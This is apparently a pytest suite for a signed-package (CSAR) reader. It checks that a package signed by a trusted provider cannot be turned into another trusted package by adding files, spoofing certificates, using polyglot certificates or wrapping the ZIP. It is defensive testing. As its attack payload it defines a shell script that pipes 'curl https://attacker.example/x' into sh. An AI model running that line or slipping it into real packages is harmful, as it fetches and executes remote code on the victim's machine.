"""From a package that a trusted provider signed nobody else makes another one that is trusted.

The attacker has one signed package, may add, change, rename and remove what he likes, and has certificates of his own,
but no key that the operator trusts.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from slipway.model.errors import PackageError
from slipway.package.reader import Package, read_package
from slipway.package.signature import UnsignedPolicy
from tests.unit.package.certificates import Identity, cms, curve_key, identity, manifest_of, signed_whole
from tests.unit.package.csars import HEAD, META, SCRIPT, VNFD_TEXT, block, valid_files, written, zipped

EVIL = b"#!/bin/sh\ncurl https://attacker.example/x | sh\n"
EVIL_VNFD = "evil.yaml"
ROOT_VNFD = VNFD_TEXT.replace("../Scripts", "Scripts")
Files = dict[str, bytes]


@pytest.fixture(scope="module")
def root() -> Identity:
    return identity("Root", ca=True)


@pytest.fixture(scope="module")
def signer(root: Identity) -> Identity:
    return identity("Provider", root)


@pytest.fixture(scope="module")
def stranger() -> Identity:
    return identity("Stranger")


def read(files: Files | bytes, folder: Path, root: Identity) -> Package:
    return read_package(written(files, folder), UnsignedPolicy.REFUSE, [root.certificate])


def refusal(files: Files | bytes, folder: Path, root: Identity) -> PackageError:
    with pytest.raises(PackageError) as refused:
        read(files, folder, root)
    assert refused.value.file
    assert refused.value.cure
    return refused.value


def without_metadata(signer: Identity, **extra: bytes) -> Files:
    """Trusted, and of the second shape of SOL004: no TOSCA-Metadata, the signature at the manifest's end."""
    files = {"sample.yaml": ROOT_VNFD.encode(), SCRIPT: valid_files()[SCRIPT], **extra}
    manifest = manifest_of(files)
    return {**files, "sample.mf": manifest + cms(manifest, signer)}


def with_metadata(signer: Identity, extra: Files | None = None, head: str = "", vnfd: str = VNFD_TEXT) -> Files:
    """Trusted, with TOSCA.meta, which the manifest lists like all other files but `extra`."""
    files = {**valid_files(vnfd), META: (HEAD + "ETSI-Entry-Manifest: sample.mf\n" + head).encode()}
    manifest = manifest_of(files)
    return {**files, **(extra or {}), "sample.mf": manifest + cms(manifest, signer)}


def evil_vnfd(script: str) -> bytes:
    return ROOT_VNFD.replace(SCRIPT, script).encode()


def evil_meta(*blocks: str, entry: str = EVIL_VNFD) -> bytes:
    head = HEAD.replace("Definitions/vnfd.yaml", entry) + "ETSI-Entry-Manifest: sample.mf\n"
    return (head + "".join(f"\n{one}\n" for one in blocks)).encode()


def told_certificates(*names: str) -> bytes:
    """A TOSCA.meta that calls files certificates of a file that has no signature: nobody ever looks at them."""
    return evil_meta(*(f"Name: sample.yaml\nCertificate: {name}" for name in names))


def polyglot(text: str) -> x509.Certificate:
    """A certificate that is also a text, to those who look for lines."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Polyglot")])
    own = x509.UnrecognizedExtension(x509.ObjectIdentifier("1.3.6.1.4.1.99999.1"), f"\n{text}\n".encode())
    now = datetime.now(UTC)
    builder = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(curve_key().public_key())
    builder = builder.serial_number(7).not_valid_before(now).not_valid_after(now + timedelta(days=1))
    return builder.add_extension(own, critical=False).sign(curve_key(), hashes.SHA256())


def test_the_packages_that_attackers_begin_with_are_trusted(signer: Identity, root: Identity, tmp_path: Path) -> None:
    for files in (without_metadata(signer), with_metadata(signer)):
        package = read(files, tmp_path, root)
        assert package.signature is not None
        assert package.signature.trusted
        assert package.descriptor.flavours["simple"].hooks["instantiate_end"].file == SCRIPT


# What an attacker adds to a trusted package without TOSCA-Metadata, or changes in it.
ADDITIONS: dict[str, Callable[[Identity], Files]] = {
    "TOSCA.meta beside, its files called certificates": lambda _: {
        META: told_certificates(META, EVIL_VNFD, "Scripts/evil.sh"),
        EVIL_VNFD: evil_vnfd("Scripts/evil.sh"),
        "Scripts/evil.sh": EVIL,
    },
    "a VNFD called the entry certificate": lambda _: {
        META: told_certificates(META, EVIL_VNFD).replace(b"\n\n", b"\nETSI-Entry-Certificate: evil.yaml\n\n", 1),
        EVIL_VNFD: evil_vnfd(SCRIPT),
    },
    "a script called a signature": lambda _: {
        META: evil_meta(f"Name: sample.yaml\nSignature: Scripts/evil.sh\nCertificate: {META}", entry="sample.yaml"),
        "Scripts/evil.sh": EVIL,
    },
    "a VNFD and a script called signatures": lambda _: {
        META: evil_meta(f"Name: sample.yaml\nSignature: {EVIL_VNFD}", f"Name: {SCRIPT}\nSignature: Scripts/evil.sh"),
        EVIL_VNFD: evil_vnfd("Scripts/evil.sh"),
        "Scripts/evil.sh": EVIL,
    },
    "a script called a certificate": lambda _: {
        META: evil_meta(
            f"Name: sample.yaml\nCertificate: {META}",
            f"Name: {SCRIPT}\nCertificate: Scripts/evil.sh",
            entry="sample.yaml",
        ),
        "Scripts/evil.sh": EVIL,
    },
    "files called signatures of each other by a stranger's key": lambda stranger: {
        META: evil_meta(f"Name: sample.yaml\nSignature: sample.sig\nCertificate: {META}"),
        "sample.sig": cms(ROOT_VNFD.encode(), stranger),
        EVIL_VNFD: evil_vnfd(SCRIPT),
    },
    "an artifact and nothing else": lambda _: {"Scripts/evil.sh": EVIL},
    "TOSCA.meta in other letters": lambda _: {
        "tosca-metadata/tosca.meta": told_certificates(EVIL_VNFD),
        "Scripts/evil.sh": EVIL,
    },
    "another manifest's certificate": lambda stranger: {"Sample2.cert": stranger.pem},
    "a certificate with a text before it": lambda stranger: {"sample.cert": EVIL + stranger.pem},
    "a certificate with a text behind it": lambda stranger: {"sample.cert": stranger.pem + EVIL},
    "a text that is no certificate": lambda _: {"sample.cert": EVIL},
    "two certificate files of the fixed names": lambda stranger: {
        "sample.cert": stranger.pem,
        "sample.crt": stranger.pem,
    },
    "DER with a text behind it": lambda stranger: {
        "sample.cert": stranger.certificate.public_bytes(Encoding.DER) + EVIL
    },
    "PEM lines that are words": lambda _: {"sample.cert": _words()},
    "a signature beside, although the manifest has one": lambda stranger: {"sample.mf.cms": cms(b"", stranger)},
}


def _words() -> bytes:
    """One certificate, whose base64 is broken into the lines that suit an attacker."""
    body = base64.b64encode(polyglot("x").public_bytes(Encoding.DER)).decode()
    lines = [body[at : at + 6] for at in range(0, len(body), 6)]
    return "\n".join(("-----BEGIN CERTIFICATE-----", *lines, "-----END CERTIFICATE-----", "")).encode()


@pytest.mark.parametrize("case", ADDITIONS)
def test_what_is_added_to_a_trusted_package_is_not_trusted(
    case: str, signer: Identity, root: Identity, stranger: Identity, tmp_path: Path
) -> None:
    refusal({**without_metadata(signer), **ADDITIONS[case](stranger)}, tmp_path, root)


def test_a_file_called_a_certificate_by_an_unsigned_text_needs_a_digest(
    signer: Identity, root: Identity, stranger: Identity, tmp_path: Path
) -> None:
    attack = ADDITIONS["TOSCA.meta beside, its files called certificates"](stranger)
    error = refusal({**without_metadata(signer), **attack}, tmp_path, root)
    assert f"no digest of {META}" in error.what
    assert error.file == "sample.mf"


def test_signatures_of_single_files_need_a_digest_in_a_signed_manifest(
    signer: Identity, root: Identity, tmp_path: Path
) -> None:
    files = {"sample.yaml": ROOT_VNFD.encode(), SCRIPT: valid_files()[SCRIPT]}
    files["Scripts/install.sig"] = cms(files[SCRIPT], signer)
    listed = manifest_of(files).replace(
        f"Source: {SCRIPT}\n".encode(), f"Source: {SCRIPT}\nSignature: Scripts/install.sig\n".encode()
    )
    assert read({**files, "sample.mf": listed + cms(listed, signer)}, tmp_path, root).signature is not None
    bare = listed.partition(b"\nSource: Scripts/install.sig")[0]
    error = refusal({**files, "sample.mf": bare + cms(bare, signer)}, tmp_path, root)
    assert "no digest of Scripts/install.sig" in error.what


@pytest.mark.parametrize("form", ["PEM", "DER"])
def test_a_plain_entry_certificate_needs_no_digest(form: str, signer: Identity, root: Identity, tmp_path: Path) -> None:
    der = signer.certificate.public_bytes(Encoding.DER)
    files = {**without_metadata(signer), "sample.cert": signer.pem if form == "PEM" else der}
    assert "sample.cert" not in [one.artifact_path for one in read(files, tmp_path, root).artifacts]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("file: ../Scripts/install.sh", "file: ../sample.cert"),
        ("implementation: installer", "implementation: sample.cert"),
        ("      properties:\n        name: worker\n", "      properties:\n        name: worker\n"
         "        boot_data: {content_or_file_data: {source_path: ../sample.cert}}\n"),
        ("      requirements:\n        - virtual_storage", "      artifacts:\n        sw_image:\n"
         "          type: tosca.artifacts.nfv.SwImage\n          file: ../sample.cert\n"
         "      requirements:\n        - virtual_storage"),
        ("  - etsi_nfv_sol001_vnfd_types.yaml", "  - ../sample.cert"),
    ],
    ids=["artifact", "hook", "boot data", "image", "VNFD"],
)  # fmt: skip
def test_a_file_without_a_digest_is_never_used(
    old: str, new: str, signer: Identity, root: Identity, tmp_path: Path
) -> None:
    """The provider's own VNFD names the entry certificate, which anybody may replace: DER can hold a script."""
    assert VNFD_TEXT.count(old) == 1
    certificate = polyglot("reboot").public_bytes(Encoding.DER)
    head = "ETSI-Entry-Certificate: sample.cert\n"
    files = with_metadata(signer, {"sample.cert": certificate}, head, VNFD_TEXT.replace(old, new))
    error = refusal(files, tmp_path, root)
    assert "sample.cert" in error.what
    assert "no digest" in error.what
    assert error.file == "Definitions/vnfd.yaml"
    assert error.line


@pytest.mark.parametrize("name", ["sample.mf", "sample.cert"])
def test_a_file_without_a_digest_is_no_entry_file(name: str, signer: Identity, root: Identity, tmp_path: Path) -> None:
    head = "ETSI-Entry-Certificate: sample.cert\n"
    files = with_metadata(signer, {"sample.cert": signer.pem}, head)
    meta = files[META].replace(b"Definitions/vnfd.yaml", name.encode())
    manifest = manifest_of({one: content for one, content in files.items() if "sample" not in one} | {META: meta})
    refusal({**files, META: meta, "sample.mf": manifest + cms(manifest, signer)}, tmp_path, root)


def test_text_behind_the_manifests_signature_is_refused(signer: Identity, root: Identity, tmp_path: Path) -> None:
    files = without_metadata(signer)
    files["sample.mf"] += EVIL
    assert "signature" in refusal(files, tmp_path, root).what


@pytest.mark.parametrize("place", ["before", "behind"])
def test_text_around_a_signature_file_is_refused(place: str, signer: Identity, root: Identity, tmp_path: Path) -> None:
    files = {"sample.yaml": ROOT_VNFD.encode(), SCRIPT: valid_files()[SCRIPT]}
    files["sample.mf"] = manifest_of(files)
    signature = cms(files["sample.mf"], signer)
    files["sample.cms"] = EVIL + signature if place == "before" else signature + EVIL
    assert refusal(files, tmp_path, root).file == "sample.cms"
    assert read({**files, "sample.cms": signature}, tmp_path, root).signature is not None


def test_the_manifest_is_no_other_file_of_the_package(signer: Identity, root: Identity, tmp_path: Path) -> None:
    """A text that was signed as one thing is not taken for another: TOSCA.meta can't vouch for itself."""
    files = {"sample.yaml": ROOT_VNFD.encode(), SCRIPT: valid_files()[SCRIPT]}
    head = HEAD.replace("Definitions/vnfd.yaml", "sample.yaml") + f"ETSI-Entry-Manifest: {META}\n"
    files[META] = head.encode() + manifest_of(files)
    files[f"{META}.cms"] = cms(files[META], signer)
    assert "ETSI-Entry-Manifest" in refusal(files, tmp_path, root).what


def test_the_providers_own_signature_does_not_make_a_script_of_the_attackers(
    signer: Identity, root: Identity, tmp_path: Path
) -> None:
    """The manifest's signature with one more certificate in it, which is a script, matches the manifest still."""
    files = {"sample.yaml": ROOT_VNFD.encode(), SCRIPT: valid_files()[SCRIPT]}
    files["sample.mf"] = manifest_of(files)
    files["sample.mf.cms"] = cms(files["sample.mf"], signer)
    assert read(files, tmp_path, root).signature is not None
    der = cms(files["sample.mf"], signer, chain=(Identity(polyglot("reboot"), curve_key()),), encoding=Encoding.DER)
    files["Scripts/evil.sh"] = der
    files[META] = evil_meta(
        "Name: sample.mf\nSignature: Scripts/evil.sh",
        f"Name: sample.yaml\nCertificate: {META}",
        f"Name: {SCRIPT}\nCertificate: {EVIL_VNFD}",
    )
    files[EVIL_VNFD] = evil_vnfd("Scripts/evil.sh")
    assert "no digest of" in refusal(files, tmp_path, root).what


@pytest.mark.parametrize("gone", [SCRIPT, "sample.yaml"])
def test_a_trusted_package_without_one_of_its_files_is_refused(
    gone: str, signer: Identity, root: Identity, tmp_path: Path
) -> None:
    files = without_metadata(signer)
    del files[gone]
    refusal(files, tmp_path, root)


# What an attacker puts beside or into the outer ZIP of a package that is signed as a whole.
WRAPPINGS: dict[str, Callable[[Files, Identity], Files]] = {
    "a file that nothing signs": lambda files, _: {**files, "install.sh": EVIL},
    "a VNFD beside": lambda files, _: {**files, "sample.yaml": evil_vnfd(SCRIPT), SCRIPT: EVIL},
    "the CSAR called a manifest": lambda files, _: {
        "sample.yaml": evil_vnfd(SCRIPT), SCRIPT: EVIL,
        "sample.mf": files["sample.csar"], "sample.cms": files["sample.cms"],
    },
    "two CSARs": lambda files, _: {**files, "evil.csar": zipped({**valid_files(), SCRIPT: EVIL})},
    "two signatures": lambda files, stranger: {**files, "evil.cms": cms(files["sample.csar"], stranger)},
    "a certificate with a script": lambda files, stranger: {**files, "sample.cert": stranger.pem + EVIL},
    "wrapped by a stranger": lambda files, stranger: signed_whole(stranger, csar=zipped(files)),
    "a changed CSAR in it": lambda files, _: {
        **files, "sample.csar": zipped({**valid_files(), META: HEAD.encode(), SCRIPT: EVIL})
    },
}  # fmt: skip


@pytest.mark.parametrize("case", WRAPPINGS)
def test_what_wraps_a_trusted_package_is_not_trusted(
    case: str, signer: Identity, root: Identity, stranger: Identity, tmp_path: Path
) -> None:
    refusal(WRAPPINGS[case](signed_whole(signer), stranger), tmp_path, root)


def test_the_manifest_inside_a_package_signed_as_a_whole_is_checked_too(
    signer: Identity, root: Identity, tmp_path: Path
) -> None:
    inner = {**with_metadata(signer), "Scripts/evil.sh": EVIL}
    assert "no digest of Scripts/evil.sh" in refusal(signed_whole(signer, csar=zipped(inner)), tmp_path, root).what


def test_a_digest_that_another_block_contradicts_is_refused(signer: Identity, root: Identity, tmp_path: Path) -> None:
    files = {"sample.yaml": ROOT_VNFD.encode(), SCRIPT: EVIL}
    good = valid_files()[SCRIPT]
    manifest = manifest_of({"sample.yaml": files["sample.yaml"], SCRIPT: good}) + block(SCRIPT, EVIL).encode()
    refusal({**files, "sample.mf": manifest + cms(manifest, signer)}, tmp_path, root)
    assert hashlib.sha512(good).hexdigest() in manifest.decode()


def key_usage(**may: bool) -> x509.KeyUsage:
    names = ("digital_signature", "content_commitment", "key_encipherment", "data_encipherment", "key_agreement")
    more = ("key_cert_sign", "crl_sign", "encipher_only", "decipher_only")
    return x509.KeyUsage(**{name: may.get(name, False) for name in (*names, *more)})


SERVER = x509.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH, ExtendedKeyUsageOID.CLIENT_AUTH])


@pytest.mark.parametrize(
    ("extension", "why"),
    [
        (SERVER, "extended key usage has none of codeSigning"),
        (key_usage(key_encipherment=True), "may not sign documents"),
    ],
)
def test_a_certificate_for_something_else_signs_no_package_though_its_ca_is_trusted(
    root: Identity, extension: x509.ExtensionType, why: str, tmp_path: Path
) -> None:
    server = identity("Web server", root, extensions=(extension,))
    for files in (with_metadata(server), signed_whole(server)):
        assert why in refusal(files, tmp_path, root).detail


def test_a_ca_for_servers_vouches_for_no_signer(root: Identity, tmp_path: Path) -> None:
    ca = identity("Servers' CA", root, ca=True, extensions=(SERVER,))
    refused = refusal(signed_whole(identity("Provider", ca), ca), tmp_path, root)
    assert "Servers' CA may not sign packages" in refused.detail


@pytest.mark.parametrize("purpose", ["CODE_SIGNING", "EMAIL_PROTECTION", "ANY_EXTENDED_KEY_USAGE"])
def test_a_certificate_for_signing_signs_packages(root: Identity, purpose: str, tmp_path: Path) -> None:
    purposes = x509.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH, getattr(ExtendedKeyUsageOID, purpose)])
    provider = identity("Provider", root, extensions=(purposes, key_usage(content_commitment=True)))
    signature = read(with_metadata(provider), tmp_path, root).signature
    assert signature is not None
    assert signature.trusted
